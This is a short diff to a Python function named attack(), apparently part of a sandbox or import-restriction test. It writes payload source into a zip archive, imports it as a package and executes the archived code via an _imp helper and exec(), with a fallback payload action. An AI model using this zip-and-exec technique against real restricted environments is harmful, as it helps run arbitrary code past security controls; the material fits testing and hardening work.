@@ -13,7 +13,8 @@ def attack():
     path = payload.ROOT + "/tmp/good.zip"
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("good/__init__.py", payload.SOURCE)
-    if not hasattr(_imp, "load_zip_code"):
-        return payload.act()        # There is none without a policy.
     import good
-    exec(_imp.load_zip_code(path, "good/__init__.py", good.__file__))
+    code = _imp.get_code(path, "good/__init__.py", good.__file__)
+    if code is None:
+        return payload.act()        # Nothing is read for anyone.
+    exec(code)
